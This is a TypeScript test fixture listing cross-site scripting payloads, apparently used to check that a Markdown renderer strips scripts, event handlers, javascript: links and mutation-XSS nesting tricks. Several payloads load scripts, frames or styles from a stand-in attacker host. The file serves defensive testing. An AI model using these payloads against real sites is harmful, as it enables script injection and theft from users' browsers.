/**
 * A story that tries to run `ran(1)`, or to reach out to a host of the attacker's. Every one of them
 * is first shown to do so where nothing holds it, but for `isInert`: what Markdown does not take for
 * a tag, and what the browser of the tests does not run, though another one may.
 */
export interface Payload {
  readonly name: string;
  readonly story: string;
  readonly isInert?: true;
}

/** A host of the attacker's: the tests answer for it with a script. */
export const FOREIGN = 'https://jahat.example';

const CLICKED: readonly (readonly [name: string, story: string])[] = [
  ['a link', '[klik](javascript:ran(1))'],
  ['a link in mixed case', '[klik](JaVaScRiPt:ran(1))'],
  ['a link by reference', '[klik][a]\n\n[a]: javascript:ran(1)'],
  ['an autolink', '<javascript:ran(1)>'],
  ['a link with a title', '[klik](javascript:ran(1) "judul")'],
  ['a link with entities', '[klik](&#106;avascript&colon;ran(1))'],
  ['a link in brackets', '[klik](<javascript:ran(1)>)'],
  ['a link in HTML', '<p><a href="javascript:ran(1)">klik</a></p>'],
  ['a link with a space before', '<p><a href=" javascript:ran(1)">klik</a></p>'],
  ['a link with a line break in it', '<p><a href=" java\nscript:ran(1)">klik</a></p>'],
  ['a link with a tab in it', '<p><a href="java&Tab;script:ran(1)">klik</a></p>'],
  ['a link with a control before', '<p><a href="&#1;javascript:ran(1)">klik</a></p>'],
  ['a link with a numeric entity', '<p><a href="&#x6A;avascript:ran(1)">klik</a></p>'],
  ['a link with a comment', '<p><a href="javascript://%0aran(1)">klik</a></p>'],
  ['a link around a picture', '[![kain](/art/x.svg)](javascript:ran(1))'],
  ['a map area', '<map><area href="javascript:ran(1)" alt="klik"></map>'],
  ['a form', '<form action="javascript:ran(1)"><button>Kirim</button></form>'],
  ['a button of a form', '<form><button formaction="javascript:ran(1)">Kirim</button></form>'],
  ['xlink:href', '<svg><a xlink:href="javascript:ran(1)"><text>klik</text></a></svg>'],
  ['onclick', '<p onclick="ran(1)">klik</p>'],
  ['onmouseover', '<p onmouseover="ran(1)">klik</p>'],
];

const AT_ONCE: readonly (readonly [name: string, story: string])[] = [
  ['a script', '<script>ran(1)</script>'],
  ['a script in capitals', '<SCRIPT>ran(1)</SCRIPT>'],
  ['a script in a paragraph', 'Halo <script>ran(1)</script> dunia'],
  ['a script of another host', `<script src="${FOREIGN}/a.js"></script>`],
  ['a module', '<script type="module">ran(1)</script>'],
  ['a script in SVG', '<svg><script>ran(1)</script></svg>'],
  ['a linked script in SVG', `<svg><script href="${FOREIGN}/a.js"></script></svg>`],
  ['an SVG', '<svg onload=ran(1)>'],
  ['an animation in SVG', '<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>'],
  ['a picture', '<img src=x onerror=ran(1)>'],
  ['a picture in disguise', '<img src=x onerror=&#114;an(1)>'],
  ['a picture in a link', '[<img src=x onerror=ran(1)>](/ukm/)'],
  ['a picture in a table', '| a |\n|---|\n| <img src=x onerror=ran(1)> |'],
  ['a picture in a heading', '# Judul <img src=x onerror=ran(1)>'],
  ['a source of a picture', '<picture><source srcset=x><img onerror=ran(1) src=x></picture>'],
  ['a frame with a document', '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>'],
  ['a frame', '<iframe src="javascript:parent.ran(1)"></iframe>'],
  ['a frame that loads', '<iframe onload=ran(1)></iframe>'],
  ['a frame of another host', `<iframe src="${FOREIGN}/"></iframe>`],
  ['a video', '<video src=x onerror=ran(1)></video>'],
  ['a source of a video', '<video><source onerror=ran(1) src=x></video>'],
  ['a sound', '<audio src=x onerror=ran(1)></audio>'],
  ['an object', `<object data="${FOREIGN}/"></object>`],
  ['an object with a document', '<object data="data:text/html,<script>ran(1)</script>"></object>'],
  ['an embedded file', `<embed src="${FOREIGN}/">`],
  ['a style', `<style>@import "${FOREIGN}/a.css";</style>`],
  ['a style sheet', `<link rel="stylesheet" href="${FOREIGN}/a.css">`],
  [
    'an animated style',
    '<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart=ran(1)>x</b>',
  ],
  ['a redirect', `<meta http-equiv="refresh" content="0;url=${FOREIGN}/">`],
  ['an input in focus', '<input autofocus onfocus=ran(1)>'],
  ['any element in focus', '<p tabindex=1 autofocus onfocus=ran(1)>x</p>'],
  ['details', '<details open ontoggle=ran(1)>x</details>'],
  [
    'a template with a shadow',
    '<div><template shadowrootmode=open><img src=x onerror=ran(1)></template></div>',
  ],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>'],
  ['a title', '<title><p title="</title><img src=x onerror=ran(1)>">'],
  ['broken nesting', '<p><b><p><svg><desc><p><img src=x onerror=ran(1)></desc></svg></b></p>'],
  [
    'MathML that ends',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;"><img src=x onerror=ran(1)>',
  ],
  ['a tag in an attribute', '<p title="<img src=x onerror=ran(1)>"><img src=x onerror=ran(1)></p>'],
  ['a comment that ends', '<!--><img src=x onerror=ran(1)>-->'],
  ['a body', '<body onload=ran(1)>'],
  ['a nested script', '<scr<script>ipt>ran(1)</scr</script>ipt><script>ran(1)</script>'],
  ['an attribute of the site', '<img src=x onerror="document.body.dataset.x=1;ran(1)">'],
];

const INERT: readonly (readonly [name: string, story: string])[] = [
  ['a link in MathML', '<math><mi href="javascript:ran(1)">klik</mi></math>'],
  ['an SVG without spaces', '<svg/onload=ran(1)>'],
  ['a picture without quotes', '<img src=x:x onerror=ran(1)//'],
  ['an unclosed tag', '<img src=x onerror=ran(1) <p>x</p>'],
  ['CDATA', '<svg><![CDATA[><img src=x onerror=ran(1)>]]></svg>'],
  ['a marquee', '<marquee onstart=ran(1)>x</marquee>'],
  ['a popover', '<p popover id=p onbeforetoggle=ran(1)>x</p><button popovertarget=p>x</button>'],
  ['a Markdown picture', '![kain](javascript:ran(1))'],
  [
    'a picture of data',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22ran(1)%22/>">',
  ],
  ['a link to data', '[klik](data:text/html,<script>ran(1)</script>)'],
  ['a link to VBScript', '[klik](vbscript:ran(1))'],
  ['a base', `<base href="${FOREIGN}/">`],
  ['an expression in CSS', '<p style="width:expression(ran(1))">x</p>'],
  ['an address in CSS', '<p style="background:url(javascript:ran(1))">x</p>'],
  ['a behaviour in CSS', '<style>p{behavior:url(#default#time2)}</style>'],
  ['a redirect to a script', '<meta http-equiv="refresh" content="0;url=javascript:ran(1)">'],
  ['a script as text', '`<script>ran(1)</script>`'],
  ['a script in a code block', '```html\n<script>ran(1)</script>\n```'],
  ['an escaped script', '\\<script>ran(1)\\</script>'],
  ['a script in entities', '&lt;script&gt;ran(1)&lt;/script&gt;'],
  [
    'an import map',
    '<script type="importmap">{"imports":{"a":"data:text/javascript,ran(1)"}}</script>',
  ],
  ['a frame set', `<frameset><frame src="${FOREIGN}/"></frameset>`],
];

const toPayload = ([name, story]: readonly [string, string]): Payload => ({ name, story });

export const PAYLOADS: readonly Payload[] = [
  ...CLICKED.map(toPayload),
  ...AT_ONCE.map(toPayload),
  ...INERT.map(toPayload).map((payload): Payload => ({ ...payload, isInert: true })),
];
